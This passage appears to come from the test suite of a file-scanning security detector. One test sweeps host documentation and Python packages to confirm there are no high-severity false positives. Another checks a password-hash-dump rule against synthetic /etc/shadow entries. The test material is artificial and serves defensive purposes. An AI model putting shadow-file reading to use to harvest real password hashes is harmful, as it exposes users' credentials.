# -- precision: this machine's real files ----------------------------------------------------------

SWEEP_LIMIT = 32 << 20


def _sweep_roots() -> list[Path]:
    """This machine's documentation, Debian's Python packages, and site-packages outside the running
    CPython installation (a virtual environment's). Not the installation itself (`sys.base_prefix`:
    the stdlib with its test/ folder and its site-packages, 820 of the 1,016 MiB this sweep read):
    tests/precision/test_clean_images.py::test_python_image_is_quiet scans all of it, as two layers
    of an image, with every detector (this YARA pass included) and the same high/critical bar."""
    installed = Path(sys.base_prefix).resolve()
    roots = {Path(sysconfig.get_paths()["purelib"]), Path(sysconfig.get_paths()["platlib"]), Path("/usr/share/doc")}
    roots.update(Path("/usr/lib").glob("python3*"))
    return sorted(r for r in roots if r.is_dir() and not r.resolve().is_relative_to(installed))


def test_no_high_or_critical_in_host_docs_and_python_packages(detector):
    seen: set[tuple[int, int]] = set()
    scanned, bad = 0, []
    for root in _sweep_roots():
        for folder, _dirs, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    st = os.lstat(path)
                except OSError:
                    continue
                if not stat.S_ISREG(st.st_mode) or not 0 < st.st_size <= SWEEP_LIMIT:
                    continue
                if (st.st_dev, st.st_ino) in seen:
                    continue
                seen.add((st.st_dev, st.st_ino))
                try:
                    data = Path(path).read_bytes()
                except OSError:
                    continue
                scanned += 1
                bad += [(path, m.rule_id, m.severity) for m in scan(detector, data, path)
                        if at_least(m.severity, "high")]
    assert scanned > 1000, "the sweep found almost nothing to scan"
    assert bad == []


POSITIVES_BY_ID = {rid: data for rid, _, data in reversed(POSITIVES)}


def test_password_hash_dump_needs_a_real_crypt_hash(detector):
    locked = b"root:*:19000:0:99999:7:::\ndaemon:!:19000::::::\nuser:!$6$abc:19000::::::\n"
    assert not [m for m in scan(detector, locked, "/etc/shadow") if m.rule_id == "secret.password-hash-dump"]
    docs = J("root:$6$", "Qx7vK2mN$", "w9Zl0" * 14, ":19000::::::\n")
    (m,) = [m for m in scan(detector, docs, "/usr/share/doc/shadow/examples/shadow")
            if m.rule_id == "secret.password-hash-dump"]
    assert m.severity == "low" and m.reason
